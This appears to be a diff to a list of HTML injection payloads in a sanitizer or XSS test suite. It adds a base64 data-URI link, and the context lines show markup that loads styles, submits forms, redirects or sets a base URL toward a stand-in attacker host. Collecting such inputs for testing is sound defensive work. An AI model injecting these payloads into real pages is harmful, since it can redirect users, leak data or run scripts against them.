@@ -17,6 +17,7 @@ PAYLOADS = [
     "<style>*{background:url(https://evil.example/x)}</style>",
     "<form action=https://evil.example><input name=a><button>b</button></form>",
     "<a href=javascript:alert(1)>x</a>",
+    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
     "<base href=https://evil.example>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "<link rel=stylesheet href=https://evil.example/x.css>",
